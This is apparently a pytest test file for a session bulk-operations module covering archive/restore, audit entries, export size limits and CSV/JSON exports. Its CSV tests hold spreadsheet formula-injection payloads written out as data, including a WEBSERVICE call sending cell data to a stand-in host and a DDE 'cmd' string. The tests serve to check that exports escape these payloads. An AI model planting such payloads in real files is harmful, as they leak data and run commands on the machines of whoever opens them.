"""sessionscope.bulk on both backends: archive/restore, exports, and one audit entry per call."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa

from queries.items import payload_size
from sessionscope import bulk
from sessionscope.errors import ExportTooLarge
from sessionscope.schema import audit_log, sessions, tool_calls
from tests import factories
from tests.admin_world import COLUMNS as ADMIN_COLUMNS
from tests.factories import T0

ACTOR = "admin@acme.example"
NOW = datetime(2026, 11, 2, 9, 30, 15, 123456, tzinfo=UTC)
EARLIER = datetime(2026, 10, 1, 8, 0, tzinfo=UTC)


@dataclass(frozen=True)
class World:
    acme: str
    beta: str
    acme_user: str
    acme_ids: tuple[str, ...]  # ses_a1..ses_a4, started an hour apart, 5 min long; a3 archived
    beta_id: str  # ses_b1, archived


def _world(conn: sa.Connection) -> World:
    acme, beta = factories.org(conn, id="org_acme"), factories.org(conn, id="org_beta")
    user, srv = factories.end_user(conn, acme), factories.server(conn, acme)
    for n in range(1, 5):
        archived = EARLIER if n == 3 else None
        start, end = T0 + timedelta(hours=n), T0 + timedelta(hours=n, minutes=5)
        factories.session(
            conn,
            acme,
            user,
            srv,
            id=f"ses_a{n}",
            started_at=start,
            completed_at=end,
            last_activity_at=end,
            archived_at=archived,
        )
    b_user, b_srv = factories.end_user(conn, beta), factories.server(conn, beta)
    factories.session(conn, beta, b_user, b_srv, id="ses_b1", archived_at=EARLIER)
    ids = ("ses_a1", "ses_a2", "ses_a3", "ses_a4")
    return World(acme["id"], beta["id"], user["id"], ids, "ses_b1")


def _archived(conn: sa.Connection) -> dict[str, datetime | None]:
    s = sessions.c
    return {i: at for i, at in conn.execute(sa.select(s.id, s.archived_at).order_by(s.id))}


def _audit(conn: sa.Connection) -> list[sa.RowMapping]:
    a = audit_log.c
    return list(conn.execute(sa.select(audit_log).order_by(a.created_at, a.id)).mappings())


@pytest.fixture()
def world(conn: sa.Connection) -> World:
    return _world(conn)


# --- archive / restore -----------------------------------------------------------------------


def test_archive_sets_only_the_named_rows_of_the_org(conn: sa.Connection, world: World) -> None:
    before = _archived(conn)
    ids = ["ses_a1", "ses_a3", "ses_b1", "ses_nope", "ses_a1"]
    result = bulk.archive(conn, org_id=world.acme, actor=ACTOR, session_ids=ids, now=NOW)
    assert (result.action, result.requested, result.changed) == ("sessions.archive", 4, 1)
    assert (result.skipped, result.not_found) == (1, 2)  # a3 already; b1 and nope not ours
    assert _archived(conn) == before | {"ses_a1": NOW}  # a3 keeps when it was first archived


def test_restore_clears_only_the_named_rows_of_the_org(conn: sa.Connection, world: World) -> None:
    before = _archived(conn)
    ids = ["ses_a3", "ses_a1", "ses_b1"]
    result = bulk.restore(conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    assert (result.action, result.requested, result.changed) == ("sessions.restore", 3, 1)
    assert (result.skipped, result.not_found) == (1, 1)
    assert _archived(conn) == before | {"ses_a3": None}  # beta's ses_b1 stays archived


def test_archive_then_restore_round_trips(conn: sa.Connection, world: World) -> None:
    before = _archived(conn)
    ids = ["ses_a2", "ses_a4"]
    assert bulk.archive(conn, org_id=world.acme, actor=ACTOR, session_ids=ids).changed == 2
    assert bulk.restore(conn, org_id=world.acme, actor=ACTOR, session_ids=ids).changed == 2
    assert _archived(conn) == before


def test_another_orgs_ids_are_untouched_and_unnamed(conn: sa.Connection, world: World) -> None:
    result = bulk.restore(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_b1"])
    assert (result.changed, result.skipped, result.not_found) == (0, 0, 1)
    assert _archived(conn)["ses_b1"] == EARLIER
    (entry,) = _audit(conn)
    assert "ses_b1" not in json.dumps(entry["detail"]) and entry["target_id"] is None


def test_one_audit_entry_names_the_action_and_every_changed_id(
    conn: sa.Connection, world: World
) -> None:
    ids = ["ses_a4", "ses_a1", "ses_a2", "ses_a3", "ses_b1"]
    result = bulk.archive(
        conn, org_id=world.acme, actor=ACTOR, session_ids=ids, now=NOW, chunk_size=2
    )
    (entry,) = _audit(conn)  # one entry although the work took three chunks
    assert entry["id"] == result.audit_id
    assert (entry["org_id"], entry["actor_email"]) == (world.acme, ACTOR)
    assert (entry["action"], entry["target_type"]) == ("sessions.archive", "session")
    assert entry["detail"]["ids"] == ["ses_a4", "ses_a1", "ses_a2"]  # selection order
    assert entry["target_id"] == "ses_a4,ses_a1,ses_a2"
    counts = {"requested": 5, "changed": 3, "skipped": 1, "not_found": 1}
    assert entry["detail"] == counts | {"ids": entry["detail"]["ids"], "at": NOW.isoformat()}


def test_a_call_that_changes_nothing_is_still_audited(conn: sa.Connection, world: World) -> None:
    result = bulk.archive(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a3"])
    assert (result.changed, result.skipped) == (0, 1)
    (entry,) = _audit(conn)
    assert entry["action"] == "sessions.archive" and entry["detail"]["skipped"] == 1


def test_progress_is_called_after_each_chunk(conn: sa.Connection, world: World) -> None:
    calls: list[tuple[int, int]] = []
    ids = ["ses_a1", "ses_a2", "ses_x", "ses_a4", "ses_b1"]
    result = bulk.archive(
        conn,
        org_id=world.acme,
        actor=ACTOR,
        session_ids=ids,
        progress=lambda done, total: calls.append((done, total)),
        chunk_size=2,
    )
    assert calls == [(2, 5), (4, 5), (5, 5)]
    assert (result.changed, result.not_found) == (3, 2)


def test_default_chunks_cover_a_large_selection(conn: sa.Connection, world: World) -> None:
    calls: list[tuple[int, int]] = []
    ids = [f"ses_unknown{n}" for n in range(1200)] + ["ses_a2"]  # a2 lands in the last chunk
    result = bulk.archive(
        conn, org_id=world.acme, actor=ACTOR, session_ids=ids, progress=lambda *p: calls.append(p)
    )
    assert calls == [(500, 1201), (1000, 1201), (1201, 1201)]
    assert (result.changed, result.not_found) == (1, 1200)


def test_bad_arguments_are_refused(conn: sa.Connection, world: World) -> None:
    with pytest.raises(TypeError):
        bulk.archive(conn, org_id=world.acme, actor=ACTOR, session_ids="ses_a1")
    with pytest.raises(ValueError, match="chunk_size"):
        bulk.archive(conn, org_id=world.acme, actor=ACTOR, session_ids=["a"], chunk_size=0)


# --- one transaction: a failure part-way changes nothing --------------------------------------


class Boom(Exception):
    pass


def _fail_after_first_chunk(done: int, total: int) -> None:
    raise Boom(f"stopped after {done} of {total}")


@pytest.mark.parametrize("action", [bulk.archive, bulk.restore])
def test_failure_after_first_chunk_changes_nothing(fresh_engine: sa.Engine, action) -> None:
    with fresh_engine.begin() as c:
        world = _world(c)
        if action is bulk.restore:  # give restore rows to clear
            c.execute(sa.update(sessions).values(archived_at=EARLIER))
    with fresh_engine.connect() as c:
        before = _archived(c)
    with pytest.raises(Boom, match="after 2 of 5"):
        bulk.run_in_transaction(
            fresh_engine,
            action,
            org_id=world.acme,
            actor=ACTOR,
            session_ids=[*world.acme_ids, world.beta_id],
            progress=_fail_after_first_chunk,
            chunk_size=2,
        )
    with fresh_engine.connect() as c:
        assert _archived(c) == before
        assert _audit(c) == []


def test_run_in_transaction_commits_on_success(fresh_engine: sa.Engine) -> None:
    with fresh_engine.begin() as c:
        world = _world(c)
    result = bulk.run_in_transaction(
        fresh_engine, bulk.archive, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"], now=NOW
    )
    with fresh_engine.connect() as c:
        assert _archived(c)["ses_a1"] == NOW
        assert [e["id"] for e in _audit(c)] == [result.audit_id]


# --- export -------------------------------------------------------------------------------------


def _export(fn: Callable[..., object], conn: sa.Connection, **kw: Any) -> bytes:
    """What an export writes (the pages write it to a temporary file), as bytes."""
    out = io.BytesIO()
    fn(conn, out=out, **kw)
    return out.getvalue()


def _parse_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8")))
    return list(reader.fieldnames or []), list(reader)


def test_export_csv_parses_back_with_the_admin_columns(conn: sa.Connection, world: World) -> None:
    conn.execute(
        sa.update(sessions)
        .where(sessions.c.id == "ses_a2")
        .values(title='=HYPERLINK("http://evil")', completed_at=None, total_errors=7)
    )
    ids = ["ses_a1", "ses_a2", "ses_a3", "ses_b1", "ses_nope"]
    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    columns, rows = _parse_csv(data)
    assert columns == ADMIN_COLUMNS
    assert [r["id"] for r in rows] == ["ses_a3", "ses_a2", "ses_a1"]  # newest first
    a3, a2, a1 = rows
    assert datetime.fromisoformat(a1["started_at"]) == T0 + timedelta(hours=1)
    assert datetime.fromisoformat(a3["archived_at"]) == EARLIER  # ISO with its offset
    assert float(a1["duration_s"]) == pytest.approx(300.0)
    assert (a2["completed_at"], a2["duration_s"], a2["total_errors"]) == ("", "", "7")
    assert a2["title"] == '\'=HYPERLINK("http://evil")'  # not run as a formula by a spreadsheet
    assert a1["title"] == "Session ses_a1" and a1["archived_at"] == ""


def test_export_csv_writes_one_audit_entry_with_the_exported_ids(
    conn: sa.Connection, world: World
) -> None:
    ids = ["ses_a1", "ses_b1", "ses_a4"]
    _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    (entry,) = _audit(conn)
    assert (entry["action"], entry["org_id"]) == ("sessions.export_csv", world.acme)
    assert entry["detail"] == {
        "ids": ["ses_a4", "ses_a1"],
        "requested": 3,
        "exported": 2,
        "not_found": 1,
    }


def test_export_csv_of_nothing_is_a_header(conn: sa.Connection, world: World) -> None:
    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_b1"])
    assert _parse_csv(data) == (ADMIN_COLUMNS, [])


S = timedelta(seconds=1)
PAYLOAD = {"query": "café ☕", "nested": {"list": [1, 2.5, None, True], "empty": {}}}


def _timeline_world(conn: sa.Connection, world: World) -> None:
    """ses_a1: calls at +0 s, +2 s (two), +4 s; tickets at +2 s (after the calls) and +3 s."""
    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0 + timedelta(hours=1)}
    user = {"id": world.acme_user, "org_id": world.acme, "email": "user@example.com"}
    at = ses["started_at"]
    factories.tool_call(conn, ses, id="tc_4", seq=4, started_at=at + 4 * S, output=None)
    factories.tool_call(conn, ses, id="tc_3", seq=3, started_at=at + 2 * S, is_error=True)
    factories.tool_call(conn, ses, id="tc_2", seq=2, started_at=at + 2 * S, input=PAYLOAD)
    factories.tool_call(conn, ses, id="tc_1", seq=1, started_at=at, output=[PAYLOAD, "x"])
    factories.ticket(conn, ses, user, id="sr_2", created_at=at + 3 * S, priority="high")
    factories.ticket(conn, ses, user, id="sr_1", created_at=at + 2 * S)


def test_export_json_has_each_sessions_timeline_in_time_order(
    conn: sa.Connection, world: World
) -> None:
    _timeline_world(conn, world)
    ids = ["ses_a1", "ses_a2", "ses_b1"]
    data = json.loads(
        _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    )
    assert [s["id"] for s in data] == ["ses_a2", "ses_a1"]
    a2, a1 = data
    assert a2["timeline"] == []
    assert set(a1) == {*ADMIN_COLUMNS, "timeline"}
    order = [(i["kind"], i["id"]) for i in a1["timeline"]]
    assert order == [
        ("tool_call", "tc_1"),
        ("tool_call", "tc_2"),
        ("tool_call", "tc_3"),
        ("ticket", "sr_1"),  # at the same instant as tc_2 and tc_3: after them
        ("ticket", "sr_2"),
        ("tool_call", "tc_4"),
    ]
    items = {i["id"]: i for i in a1["timeline"]}
    assert items["tc_2"]["input"] == PAYLOAD and items["tc_1"]["output"] == [PAYLOAD, "x"]
    assert items["tc_4"]["output"] is None and items["tc_3"]["is_error"] is True
    assert items["sr_2"]["priority"] == "high" and items["sr_2"]["resolved_at"] is None
    at = datetime.fromisoformat(items["sr_2"]["at"])
    assert at == T0 + timedelta(hours=1, seconds=3) and at.tzinfo is not None


def test_export_timeline_csv_has_one_row_per_item_in_time_order(
    conn: sa.Connection, world: World
) -> None:
    _timeline_world(conn, world)
    body = _export(
        bulk.export_timeline_csv,
        conn,
        org_id=world.acme,
        actor=ACTOR,
        session_ids=["ses_a1", "ses_b1"],
    )
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    assert [r["id"] for r in rows] == ["tc_1", "tc_2", "tc_3", "sr_1", "sr_2", "tc_4"]
    assert {r["session_id"] for r in rows} == {"ses_a1"}  # org B's session is left out
    by_id = {r["id"]: r for r in rows}
    assert json.loads(by_id["tc_2"]["input"]) == PAYLOAD
    assert by_id["sr_2"]["priority"] == "high" and by_id["sr_2"]["input"] == ""
    entries = conn.execute(sa.select(audit_log.c.action)).scalars().all()
    assert entries.count("sessions.export_timeline_csv") == 1


def test_export_json_session_fields_are_plain_json(conn: sa.Connection, world: World) -> None:
    data = _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a3"])
    (a3,) = json.loads(data)
    assert datetime.fromisoformat(a3["archived_at"]) == EARLIER  # archived sessions export too
    assert datetime.fromisoformat(a3["started_at"]).tzinfo is not None
    assert a3["duration_s"] == pytest.approx(300.0)
    assert a3["total_tool_calls"] == 0 and a3["title"] == "Session ses_a3"


def test_export_json_keeps_out_rows_of_other_orgs(conn: sa.Connection, world: World) -> None:
    # A malformed row: beta's tool call pointing at acme's session is still beta's.
    ses = {"id": "ses_a1", "org_id": world.beta, "started_at": T0}
    factories.tool_call(conn, ses, id="tc_beta")
    data = json.loads(
        _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"])
    )
    assert data[0]["timeline"] == []
    nothing = _export(
        bulk.export_json, conn, org_id=world.beta, actor=ACTOR, session_ids=["ses_a1"]
    )
    assert nothing == b"[]"


def test_export_json_writes_one_audit_entry(conn: sa.Connection, world: World) -> None:
    _timeline_world(conn, world)
    ids = ["ses_a1", "ses_nope", "ses_a2"]
    _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    (entry,) = _audit(conn)
    assert (entry["action"], entry["actor_email"]) == ("sessions.export_json", ACTOR)
    assert entry["detail"]["ids"] == ["ses_a2", "ses_a1"]
    assert (entry["detail"]["exported"], entry["detail"]["not_found"]) == (2, 1)


# --- CSV: nothing a spreadsheet would run ----------------------------------------------------

# A title that splits a row where a reader ends rows at a bare CR (Excel, LibreOffice), each
# with a formula right after a line break inside the field (issue 15, finding 7).
HOSTILE_TEXT = [
    'Quarterly report\r=WEBSERVICE("http://evil.example/?"&A1)',
    "notes\n+cmd|/C calc!A0",
    "a\r\n-2+3",
    "b\r@SUM(1+1)",
    "c\r\r=1+1",
    "d\n\t=1+1",
    "=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _physical_lines(data: bytes) -> list[str]:
    """The file's lines as a reader that ends a line at any CR or LF (bare CR too) sees them."""
    return re.split(r"\r\n|\r|\n", data.decode("utf-8"))


def _assert_no_formula(data: bytes, column: str, value: str, rows: int) -> None:
    """Every physical line is inert; a quoting-aware reader gets the rows and the text back."""
    assert not [line for line in _physical_lines(data) if line.startswith(FORMULA_START)]
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(parsed) == rows
    [cell] = [r[column] for r in parsed if r[column].replace("'", "") == value]
    assert cell != value  # escaped: a quote before each formula start


@pytest.mark.parametrize("title", HOSTILE_TEXT)
def test_sessions_csv_has_no_line_that_starts_a_formula(
    conn: sa.Connection, world: World, title: str
) -> None:
    conn.execute(sa.update(sessions).where(sessions.c.id == "ses_a2").values(title=title))
    ids = ["ses_a1", "ses_a2", "ses_a4"]
    data = _export(bulk.export_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=ids)
    _assert_no_formula(data, "title", title, rows=3)


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_timeline_csv_has_no_line_that_starts_a_formula(
    conn: sa.Connection, world: World, text: str
) -> None:
    _timeline_world(conn, world)
    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0 + timedelta(hours=1)}
    user = {"id": world.acme_user, "org_id": world.acme, "email": "user@example.com"}
    factories.ticket(conn, ses, user, id="sr_3", title=text, summary=text, context=text)
    factories.tool_call(conn, ses, id="tc_5", seq=5, is_error=True, error_message=text)
    data = _export(
        bulk.export_timeline_csv, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"]
    )
    for column in ("title", "summary", "context", "error_message"):
        _assert_no_formula(data, column, text, rows=8)


# --- what one export may read ----------------------------------------------------------------

TIMELINE_EXPORTS = [bulk.export_json, bulk.export_timeline_csv]


@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
@pytest.mark.parametrize(
    ("limits", "said"),
    [
        (bulk.ExportLimits(items=5), "at least 6 tool calls and tickets"),  # the world has 6
        (bulk.ExportLimits(payload_bytes=200), "one export holds at most 200 B"),
    ],
)
def test_an_export_over_a_limit_is_refused_before_anything_is_written(
    conn: sa.Connection, world: World, fn: Callable[..., int], limits: bulk.ExportLimits, said: str
) -> None:
    _timeline_world(conn, world)
    out = io.BytesIO()
    with pytest.raises(ExportTooLarge, match=said):
        fn(conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"], out=out, limits=limits)
    assert out.getvalue() == b"" and _audit(conn) == []


@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
def test_an_export_exactly_at_its_limits_is_whole(
    conn: sa.Connection, world: World, fn: Callable[..., int]
) -> None:
    _timeline_world(conn, world)
    c = tool_calls.c
    sizes = [sa.func.sum(payload_size(conn, col)) for col in (c.input, c.output)]
    stored = conn.execute(sa.select(sizes[0] + sizes[1]).where(c.session_id == "ses_a1")).scalar()
    limits = bulk.ExportLimits(items=6, payload_bytes=int(stored))
    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"], "limits": limits}
    data = _export(fn, conn, **kw)
    if fn is bulk.export_json:
        assert len(json.loads(data)[0]["timeline"]) == 6
    else:
        assert len(_parse_csv(data)[1]) == 6


def test_the_sessions_csv_is_refused_over_the_item_limit(conn: sa.Connection, world: World) -> None:
    out = io.BytesIO()
    with pytest.raises(ExportTooLarge, match="at least 2 tool calls and tickets"):
        bulk.export_csv(
            conn,
            org_id=world.acme,
            actor=ACTOR,
            session_ids=["ses_a1", "ses_a2"],
            out=out,
            limits=bulk.ExportLimits(items=1),
        )
    assert out.getvalue() == b"" and _audit(conn) == []


def test_a_timeline_that_grows_past_the_limit_while_exporting_stops_the_export(
    conn: sa.Connection, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The check before reading passed (say the session was smaller); the budget while
    reading stops at the first item over the limit, and no audit entry says it was exported."""
    _timeline_world(conn, world)
    monkeypatch.setattr(bulk, "_check_size", lambda conn, org, ids, limits: bulk._Budget(limits))
    out = io.BytesIO()
    with pytest.raises(ExportTooLarge, match="at least 4 tool calls and tickets"):
        bulk.export_json(
            conn,
            org_id=world.acme,
            actor=ACTOR,
            session_ids=["ses_a1"],
            out=out,
            limits=bulk.ExportLimits(items=3),
        )
    assert _audit(conn) == []


def test_payloads_go_out_as_stored_and_text_that_is_not_json_as_a_string(
    conn: sa.Connection, world: World
) -> None:
    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0}
    factories.tool_call(conn, ses, id="tc_1", input=PAYLOAD, output=None)
    if conn.dialect.name == "sqlite":  # only SQLite keeps text that is not JSON
        conn.execute(sa.text("UPDATE tool_calls SET output = '{cut off' WHERE id = 'tc_1'"))
    data = _export(bulk.export_json, conn, org_id=world.acme, actor=ACTOR, session_ids=["ses_a1"])
    [call] = json.loads(data)[0]["timeline"]
    assert call["input"] == PAYLOAD
    assert call["output"] == ("{cut off" if conn.dialect.name == "sqlite" else None)


@pytest.mark.parametrize("fn", TIMELINE_EXPORTS)
def test_large_payloads_read_in_chunks_give_the_same_file(
    conn: sa.Connection, world: World, fn: Callable[..., int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Payloads over INLINE_PAYLOAD_BYTES are read piece by piece as they are written (a 100 MB
    one is never whole in memory); the file is byte for byte the one read whole gives."""
    _timeline_world(conn, world)
    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"]}
    whole = _export(fn, conn, **kw)
    monkeypatch.setattr(bulk, "INLINE_PAYLOAD_BYTES", 10)
    monkeypatch.setattr(bulk, "PAYLOAD_CHUNK_BYTES", 7)
    assert _export(fn, conn, **kw) == whole


def test_a_formula_after_a_line_break_between_two_chunks_is_escaped(
    conn: sa.Connection, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    # SQLite keeps the JSON text as given, line breaks and all, so a chunk can end at one;
    # PostgreSQL's jsonb drops them (the export then has none to escape, and still no formula).
    ses = {"id": "ses_a1", "org_id": world.acme, "started_at": T0}
    factories.tool_call(conn, ses, id="tc_1")
    stored = '{"a":\n-1,\r"b":\r\n\t2}'  # valid JSON: line breaks and a tab between tokens
    conn.execute(sa.text("UPDATE tool_calls SET input = :t WHERE id = 'tc_1'"), {"t": stored})
    monkeypatch.setattr(bulk, "INLINE_PAYLOAD_BYTES", 1)
    monkeypatch.setattr(bulk, "PAYLOAD_CHUNK_BYTES", 6)  # the first chunk ends at the "\n"
    kw = {"org_id": world.acme, "actor": ACTOR, "session_ids": ["ses_a1"]}
    data = _export(bulk.export_timeline_csv, conn, **kw)
    if conn.dialect.name == "sqlite":
        _assert_no_formula(data, "input", stored, rows=1)
    else:  # jsonb gave the text back without its line breaks: nothing to split on
        assert not [line for line in _physical_lines(data) if line.startswith(FORMULA_START)]
